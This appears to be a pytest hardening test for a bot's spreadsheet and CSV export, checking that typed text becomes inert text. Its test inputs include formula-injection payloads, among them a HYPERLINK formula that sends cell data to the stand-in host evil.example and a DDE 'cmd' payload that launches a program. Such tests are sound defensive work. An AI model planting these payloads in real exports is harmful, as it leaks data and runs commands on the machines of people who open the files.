"""Text people typed never becomes a live formula in the head's XLSX or CSV files (issue 15)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from bot.exports import csv as csv_export
from bot.exports.xlsx_layout import new_workbook, to_bytes

pytestmark = pytest.mark.hardening

MOMENT = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
TYPED = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1,1)",
    "-2+3",
    "='Không có'!A1",  # a sheet that is not in the workbook
    "=1+1",
]
HARMLESS = ["- Một gạch đầu dòng", "Bình thường", "-", "7,5"]
OURS = ["=SUM(D5:D9)", "=RANK(E5,$E$5:$E$9,0)", "='Tự chấm'!E5", "=E5-F5", "=0"]


def test_typed_text_is_text_in_the_workbook_and_our_formulas_stay_formulas() -> None:
    workbook = new_workbook("Thử", MOMENT)
    sheet = workbook.active
    assert sheet is not None
    workbook.create_sheet("Tự chấm")
    for row, value in enumerate([*TYPED, *HARMLESS, *OURS], start=1):
        sheet.cell(row=row, column=1, value=value)
    read = load_workbook(io.BytesIO(to_bytes(workbook, MOMENT)))
    cells = {cell.value: cell.data_type for (cell,) in read.worksheets[0].iter_rows(max_col=1)}
    assert {value: cells[value] for value in TYPED} == {value: "s" for value in TYPED}
    assert {value: cells[value] for value in OURS} == {value: "f" for value in OURS}


def test_typed_text_is_inert_in_csv() -> None:
    data = csv_export.render(["Ghi chú"], [[value] for value in [*TYPED, *HARMLESS]] + [[7], [None]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]
    assert [row[0] for row in rows[: len(TYPED)]] == [f"'{value}" for value in TYPED]
    assert [row[0] for row in rows[len(TYPED) :]] == [*HARMLESS, "7", ""]
    assert csv_export.inert(csv_export.inert("=1")) == "'=1"  # neutralising twice changes nothing more
